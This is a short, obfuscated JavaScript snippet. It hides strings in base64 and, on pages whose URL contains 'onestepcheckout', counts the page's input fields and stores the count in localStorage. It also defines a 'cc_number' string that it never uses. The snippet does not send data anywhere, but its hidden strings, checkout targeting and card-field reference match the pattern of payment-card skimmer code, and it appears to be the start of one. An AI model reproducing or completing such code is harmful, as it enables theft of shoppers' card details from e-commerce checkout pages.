var _0x3a1f=["b25lc3RlcGNoZWNrb3V0","Y2NfbnVtYmVy","Z2V0RWxlbWVudHNCeVRhZ05hbWU=","bG9jYWxTdG9yYWdl"];
function _0x1b(i){return atob(_0x3a1f[i]);}
if(window.location.href.indexOf(_0x1b(0))>-1){var f=document[_0x1b(2)]("input");window[_0x1b(3)].setItem("_x",f.length);}
